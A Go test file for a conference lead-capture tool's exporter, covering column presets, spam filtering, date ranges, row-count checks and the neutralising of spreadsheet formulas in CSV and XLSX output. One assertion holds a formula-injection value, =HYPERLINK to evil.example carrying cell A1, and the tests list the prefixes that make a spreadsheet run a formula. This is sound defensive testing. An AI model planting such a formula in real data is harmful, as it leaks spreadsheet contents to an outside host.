package export_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"maps"
	"math"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/leadcap/leadcap"
	"github.com/leadcap/leadcap/internal/export"
	"github.com/leadcap/leadcap/internal/store"
	"github.com/leadcap/leadcap/internal/store/storetest"
	"golang.org/x/sync/errgroup"
)

// leadcapColumns are the columns of the leadcap preset for a conference
// made by mustConference.
var leadcapColumns = []string{"id", "conference", "created_at", "updated_at", "first_name", "last_name", "email",
	"phone", "company", "job_title", "country", "interests", "answers.size", "answers.budget", "answers.when",
	"answers.tags", "answers.comment", "notes", "consent_contact", "consent_marketing", "consent_version",
	"consent_text_hash", "consent_at", "consent_ip", "source", "device_id", "submission_id", "spam", "spam_reason"}

// spreadsheet reports whether a format neutralises formulas.
func spreadsheet(format string) bool {
	return format == leadcap.FormatCSV || format == leadcap.FormatXLSX
}

func (e *env) write(t *testing.T, req export.Request, o export.WriteOptions) ([]byte, export.Result) {
	t.Helper()
	plan, err := export.NewPlan(context.Background(), e.st, req, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	x := &export.Exporter{Store: e.st, Auditor: e.auditor, TempDir: t.TempDir()}
	var buf bytes.Buffer
	res, err := x.Write(context.Background(), &buf, plan, o)
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), res
}

func TestExportNastyInputs(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		c := e.mustConference(t, "expo", time.Now())
		other := e.mustConference(t, "other", time.Now())
		stored := e.capture(t, nastyLeads(c)...)
		e.capture(t, nastyLeads(other)[:1]...)
		for _, format := range export.Formats() {
			t.Run(format, func(t *testing.T) {
				data, res := e.write(t, export.Request{Format: format, Conference: "expo"}, export.WriteOptions{Actor: export.Actor{Name: export.ActorCLI}})
				if res.Rows != 4 || res.Bytes != int64(len(data)) || res.SHA256 == "" {
					t.Fatalf("result %+v for %d bytes", res, len(data))
				}
				got := readBack(t, format, data)
				if !slices.Equal(got.columns, leadcapColumns) {
					t.Fatalf("columns\n got %q\nwant %q", got.columns, leadcapColumns)
				}
				// Spam is left out; the rest in creation order.
				if len(got.rows) != 4 {
					t.Fatalf("%d rows, want 4", len(got.rows))
				}
				for i, row := range got.rows {
					checkRow(t, format, row, stored[i], c)
				}
				if spreadsheet(format) {
					for _, row := range got.rows {
						for col, v := range row {
							if s, ok := v.(string); ok && startsLikeFormula(s) {
								t.Errorf("%s: a spreadsheet would run %q", col, s)
							}
						}
					}
				}
			})
		}
	})
}

// startsLikeFormula is the test's own list of what a spreadsheet runs.
func startsLikeFormula(s string) bool {
	for _, p := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// checkRow compares every column of an exported row with the stored lead.
func checkRow(t *testing.T, format string, row map[string]any, l *leadcap.Lead, c *leadcap.Conference) {
	t.Helper()
	bad := func(col string, got, want any) {
		t.Helper()
		t.Errorf("lead %s, %s: got %#v, want %#v", l.Email, col, got, want)
	}
	// text gives a text cell back as stored: spreadsheets undo the
	// neutralising apostrophe; JSON has no such thing.
	text := func(col string) (string, bool) {
		v, ok := row[col]
		if !ok || v == nil {
			return "", true
		}
		s, isString := v.(string)
		if spreadsheet(format) && isString {
			s = export.Restore(s)
		}
		return s, isString
	}
	texts := map[string]string{"id": l.ID, "conference": c.Slug, "first_name": l.FirstName, "last_name": l.LastName,
		"email": l.Email, "phone": l.Phone, "company": l.Company, "job_title": l.JobTitle, "country": l.Country,
		"notes": l.Notes, "consent_text_hash": l.Consent.TextHash, "consent_ip": l.Consent.IP, "source": l.Source,
		"device_id": l.DeviceID, "submission_id": l.SubmissionID, "spam_reason": l.SpamReason}
	for q, v := range l.Answers {
		if s, ok := v.(string); ok && q != "when" {
			texts["answers."+q] = s
		}
	}
	for col, want := range texts {
		if got, ok := text(col); !ok || got != want {
			bad(col, row[col], want)
		}
	}
	// The neutralising apostrophe is there in spreadsheets, not in JSON.
	if first, _ := row["first_name"].(string); strings.HasPrefix(l.FirstName, "=") && spreadsheet(format) != strings.HasPrefix(first, "'=") {
		bad("first_name as written", first, l.FirstName)
	}
	times := map[string]time.Time{"created_at": l.CreatedAt, "updated_at": l.UpdatedAt, "consent_at": l.Consent.At}
	if when, ok := l.Answers["when"].(string); ok {
		times["answers.when"], _ = time.Parse(time.DateOnly, when)
	}
	for col, want := range times {
		var got time.Time
		switch v := row[col].(type) {
		case time.Time: // XLSX: a typed date, kept to the millisecond
			got = v
			if d := got.Sub(want); d < -time.Millisecond || d > time.Millisecond {
				bad(col, got, want)
			}
			continue
		case string:
			layout := time.RFC3339Nano
			if col == "answers.when" {
				layout = time.DateOnly
			}
			var err error
			if got, err = time.Parse(layout, v); err != nil {
				bad(col, v, want)
				continue
			}
		default:
			bad(col, v, want)
			continue
		}
		if !got.Equal(want) {
			bad(col, got, want)
		}
	}
	if _, ok := l.Answers["when"]; !ok {
		if v, _ := text("answers.when"); v != "" {
			bad("answers.when", row["answers.when"], nil)
		}
	}
	bools := map[string]bool{"consent_contact": l.Consent.Contact, "consent_marketing": l.Consent.Marketing, "spam": l.Spam}
	for col, want := range bools {
		got := row[col]
		if s, ok := got.(string); ok && spreadsheet(format) {
			got, _ = strconv.ParseBool(s)
		}
		if got != want {
			bad(col, row[col], want)
		}
	}
	numbers := map[string]float64{"consent_version": float64(l.Consent.Version)}
	if b, ok := l.Answers["budget"].(float64); ok {
		numbers["answers.budget"] = b
	} else if v, _ := text("answers.budget"); v != "" {
		bad("answers.budget", row["answers.budget"], nil)
	}
	for col, want := range numbers {
		got, ok := row[col].(float64)
		if s, isString := row[col].(string); isString && spreadsheet(format) {
			var err error
			got, err = strconv.ParseFloat(export.Restore(s), 64)
			ok = err == nil
		}
		if !ok || math.Abs(got-want) > 0 {
			bad(col, row[col], want)
		}
	}
	lists := map[string][]string{"interests": l.Interests}
	if tags, ok := l.Answers["tags"].([]string); ok {
		lists["answers.tags"] = tags
	}
	for col, want := range lists {
		var got []string
		switch v := row[col].(type) {
		case string:
			if v = export.Restore(v); v != "" {
				got = strings.Split(v, export.MultiSeparator)
			}
		case []any:
			for _, s := range v {
				got = append(got, s.(string))
			}
		}
		if len(got) != len(want) || (len(want) > 0 && !slices.Equal(got, want)) {
			bad(col, row[col], want)
		}
	}
}

func TestExportSpamAndOrder(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		c := e.mustConference(t, "expo", time.Now())
		stored := e.capture(t, nastyLeads(c)...)
		data, res := e.write(t, export.Request{Format: leadcap.FormatNDJSON, IncludeSpam: true}, export.WriteOptions{})
		got := readBack(t, leadcap.FormatNDJSON, data)
		if res.Rows != 5 || len(got.rows) != 5 {
			t.Fatalf("with spam: %d rows", len(got.rows))
		}
		for i, row := range got.rows {
			checkRow(t, leadcap.FormatNDJSON, row, stored[i], c)
		}
		if got.rows[4]["spam"] != true || got.rows[4]["spam_reason"] != "honeypot" {
			t.Fatalf("spam lead: %v", got.rows[4])
		}
		// The same export again is the same file.
		again, res2 := e.write(t, export.Request{Format: leadcap.FormatNDJSON, IncludeSpam: true}, export.WriteOptions{})
		if !bytes.Equal(again, data) || res2 != res {
			t.Fatal("a second export of the same leads differs")
		}
		// Dates are days in the conference's time zone; until includes its day.
		data, _ = e.write(t, export.Request{Format: leadcap.FormatJSON, Conference: "expo", Since: "2025-03-01", Until: "2025-03-01"}, export.WriteOptions{})
		if n := len(readBack(t, leadcap.FormatJSON, data).rows); n != 4 {
			t.Fatalf("leads of 2025-03-01 in Belize: %d, want 4", n)
		}
		data, _ = e.write(t, export.Request{Format: leadcap.FormatJSON, Conference: "expo", Since: "2025-03-01T15:05:00Z"}, export.WriteOptions{})
		if n := len(readBack(t, leadcap.FormatJSON, data).rows); n != 3 {
			t.Fatalf("leads since 15:05Z: %d, want 3", n)
		}
		data, _ = e.write(t, export.Request{Format: leadcap.FormatJSON, Conference: "expo", Until: "2025-02-28"}, export.WriteOptions{})
		if string(data) != "[]\n" {
			t.Fatalf("no leads: %q", data)
		}
	})
}

func TestExportCSVFile(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		c := e.mustConference(t, "expo", time.Now())
		e.capture(t, nastyLeads(c)...)
		plain, _ := e.write(t, export.Request{Format: leadcap.FormatCSV}, export.WriteOptions{})
		withBOM, _ := e.write(t, export.Request{Format: leadcap.FormatCSV, BOM: true}, export.WriteOptions{})
		if bytes.HasPrefix(plain, []byte("\xef\xbb\xbf")) || !bytes.Equal(withBOM, append([]byte("\xef\xbb\xbf"), plain...)) {
			t.Fatal("the byte order mark is not exactly where asked")
		}
		// RFC 4180: records end with CRLF; a line break inside a quoted
		// field is CRLF too; nothing ends with a bare LF.
		if !bytes.HasSuffix(plain, []byte("\r\n")) || bytes.Count(plain, []byte("\n")) != bytes.Count(plain, []byte("\r\n")) {
			t.Fatal("not CRLF line ends")
		}
		if !bytes.Contains(plain, []byte(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)) {
			t.Fatalf("formula not neutralised and quoted:\n%s", plain)
		}
	})
}

func TestExportPresets(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		c := e.mustConference(t, "expo", time.Now().Add(-time.Hour))
		// A second conference: its questions join the columns after the
		// first's, a question id asked by both only once.
		second := &leadcap.Conference{Slug: "fair", Name: "Fair", Status: leadcap.StatusOpen,
			Questions: []leadcap.Question{
				{ID: "budget", Type: leadcap.QuestionNumber, Label: "Spend"},
				{ID: "extra", Type: leadcap.QuestionText, Label: "Group size"},
			}, Consent: leadcap.ConsentText{Text: "x", Hash: "x"}}
		if err := e.st.CreateConference(context.Background(), second); err != nil {
			t.Fatal(err)
		}
		stored := e.capture(t, nastyLeads(c)[0])
		fair := &leadcap.Lead{ConferenceID: second.ID, SubmissionID: "f1", Email: "f@example.com", FirstName: "Fay",
			Source: leadcap.SourceStaff, Answers: leadcap.Answers{"budget": 5.0, "extra": "x"},
			Consent: leadcap.Consent{Contact: true, Version: 1, TextHash: "x", At: time.Now()}}
		stored = append(stored, e.capture(t, fair)...)

		for _, tc := range []struct {
			preset  string
			columns []string
		}{
			{leadcap.ColumnsHubSpot, []string{"Leadcap ID", "Conference", "Captured At", "First Name", "Last Name", "Email",
				"Phone Number", "Company Name", "Job Title", "Country/Region", "Interests", "Group size", "Budget (USD)",
				"When?", "Tags", "=Comment", "Group size (extra)", "Notes", "Consent to Contact", "Marketing Consent",
				"Consent Version", "Consent Text Hash", "Consent Time", "Capture Source"}},
			{leadcap.ColumnsSalesforce, []string{"Leadcap ID", "Conference", "Captured At", "First Name", "Last Name", "Email",
				"Phone", "Company", "Title", "Country", "Interests", "Group size", "Budget (USD)", "When?", "Tags",
				"=Comment", "Group size (extra)", "Description", "Consent to Contact", "Marketing Consent",
				"Consent Version", "Consent Text Hash", "Consent Time", "Capture Source", "Lead Source"}},
		} {
			for _, format := range export.Formats() {
				data, _ := e.write(t, export.Request{Format: format, Columns: tc.preset}, export.WriteOptions{})
				got := readBack(t, format, data)
				cols := slices.Clone(got.columns)
				if spreadsheet(format) {
					for i := range cols {
						cols[i] = export.Restore(cols[i])
					}
					if got.columns[15] != "'=Comment" {
						t.Errorf("%s %s: header %q not neutralised", tc.preset, format, got.columns[15])
					}
				}
				if !slices.Equal(cols, tc.columns) {
					t.Fatalf("%s %s columns\n got %q\nwant %q", tc.preset, format, cols, tc.columns)
				}
				if len(got.rows) != 2 {
					t.Fatalf("%s %s: %d rows", tc.preset, format, len(got.rows))
				}
				a, f := got.rows[0], got.rows[1]
				email := "Email"
				if fmt.Sprint(a[email]) != stored[0].Email || fmt.Sprint(f["First Name"]) != "Fay" || fmt.Sprint(f["Conference"]) != "fair" {
					t.Errorf("%s %s: rows %v", tc.preset, format, got.rows)
				}
				budget := fmt.Sprint(f["Budget (USD)"])
				if budget != "5" || fmt.Sprint(f["Group size (extra)"]) != "x" {
					t.Errorf("%s %s: the second conference's answers: budget %q, extra %q", tc.preset, format, budget, f["Group size (extra)"])
				}
				if tc.preset == leadcap.ColumnsSalesforce && fmt.Sprint(a["Lead Source"]) != "Trade Show" {
					t.Errorf("%s: Lead Source %v", format, a["Lead Source"])
				}
			}
		}
	})
}

func TestExportRowCountChecked(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		c := e.mustConference(t, "expo", time.Now())
		stored := e.capture(t, nastyLeads(c)...)
		other := e.otherConnection(t)
		ctx := context.Background()
		for name, change := range map[string]func() error{
			// Erased by another connection after the stream wrote it.
			"deleted": func() error {
				return other.ExecForTest(ctx, `DELETE FROM leads WHERE id = $1`, stored[0].ID)
			},
			// Imported by another connection with a creation time the
			// stream had passed already.
			"inserted": func() error {
				late := nastyLeads(c)[3]
				late.SubmissionID, late.Email, late.CreatedAt = "late", "late@example.com", stored[1].CreatedAt
				_, err := other.CaptureLead(ctx, late, late.Email)
				return err
			},
		} {
			plan, err := export.NewPlan(ctx, e.st, export.Request{Format: leadcap.FormatCSV, Conference: "expo"}, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			x := &export.Exporter{Store: e.st, Auditor: e.auditor}
			var calls int
			_, err = x.Write(ctx, &bytes.Buffer{}, plan, export.WriteOptions{Progress: func(done, total int64) {
				// The last call comes after every lead is written and
				// before the count.
				if calls++; done == total {
					if err := change(); err != nil {
						t.Fatal(err)
					}
				}
			}})
			if leadcap.ErrorCode(err) != leadcap.ECONFLICT || !strings.Contains(err.Error(), "row count") {
				t.Fatalf("%s: Write = %v, want a failed row count", name, err)
			}
			evs := e.auditor.list()
			if last := evs[len(evs)-1]; last.Action != export.AuditCreate || last.Result != export.AuditFailure || !strings.Contains(last.Detail["reason"], "row count") {
				t.Fatalf("%s: audit event %+v", name, last)
			}
		}
	})
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+SUM(1)": "'+SUM(1)", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", "'quoted": "''quoted", "+5012234567": "'+5012234567",
		"": "", "Ana": "Ana", " =1": " =1", "1-2": "1-2", "ｘ": "ｘ", "👩‍👩‍👧": "👩‍👩‍👧", "مريم": "مريم",
	} {
		if got := export.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
		if back := export.Restore(export.Neutralise(in)); back != in {
			t.Errorf("Restore(Neutralise(%q)) = %q", in, back)
		}
	}
}

// TestExportManyPages exports leads that take several pages of the stream,
// formatted on the worker pool: every format gives each lead once, whole
// (its id with its own email), in the store's order, and a lead that does
// not open fails the export.
func TestExportManyPages(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := newEnv(t, dsn)
		ctx := context.Background()
		c := e.mustConference(t, "expo", time.Now())
		other := e.mustConference(t, "other", time.Now())
		const n = 2345
		emails := make(map[string]string, n) // by lead id
		var mu sync.Mutex
		var g errgroup.Group
		g.SetLimit(16)
		for i := range n {
			g.Go(func() error {
				conf := c
				if i%7 == 3 {
					conf = other
				}
				l := nastyLeads(conf)[i%4]
				l.SubmissionID, l.Email = fmt.Sprint("many-", i), fmt.Sprintf("lead%d@example.com", i)
				res, err := e.st.CaptureLead(ctx, l, l.Email)
				mu.Lock()
				emails[res.LeadID] = l.Email
				mu.Unlock()
				return err
			})
		}
		if err := g.Wait(); err != nil {
			t.Fatal(err)
		}
		for _, conf := range []string{"", "expo"} {
			var want []string
			f := store.LeadFilter{Until: time.Now()}
			if conf == "expo" {
				f.ConferenceID = c.ID
			}
			if err := e.st.EachLead(ctx, f, func(l *leadcap.Lead) error {
				want = append(want, l.ID)
				return nil
			}); err != nil {
				t.Fatal(err)
			}
			for _, format := range export.Formats() {
				data, res := e.write(t, export.Request{Format: format, Conference: conf}, export.WriteOptions{})
				got := readBack(t, format, data)
				if res.Rows != int64(len(want)) || len(got.rows) != len(want) {
					t.Fatalf("%s %q: %d rows, read back %d, want %d", format, conf, res.Rows, len(got.rows), len(want))
				}
				for i, row := range got.rows {
					if row["id"] != want[i] || row["email"] != emails[want[i]] {
						t.Fatalf("%s %q: row %d is %v %v, want %s %s", format, conf, i, row["id"], row["email"], want[i], emails[want[i]])
					}
				}
			}
		}
		// A lead sealed for another row does not open: the export fails.
		if err := e.st.ExecForTest(ctx, `UPDATE leads SET data = (SELECT data FROM leads WHERE id = $1) WHERE id = $2`,
			slices.Min(slices.Collect(maps.Keys(emails))), slices.Max(slices.Collect(maps.Keys(emails)))); err != nil {
			t.Fatal(err)
		}
		plan, err := export.NewPlan(ctx, e.st, export.Request{Format: leadcap.FormatCSV}, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		x := &export.Exporter{Store: e.st, Auditor: e.auditor}
		if _, err := x.Write(ctx, io.Discard, plan, export.WriteOptions{}); err == nil || !strings.Contains(err.Error(), "open lead") {
			t.Fatalf("a lead that does not open: %v", err)
		}
		evs := e.auditor.list()
		if last := evs[len(evs)-1]; last.Result != export.AuditFailure {
			t.Fatalf("audit event %+v", last)
		}
	})
}
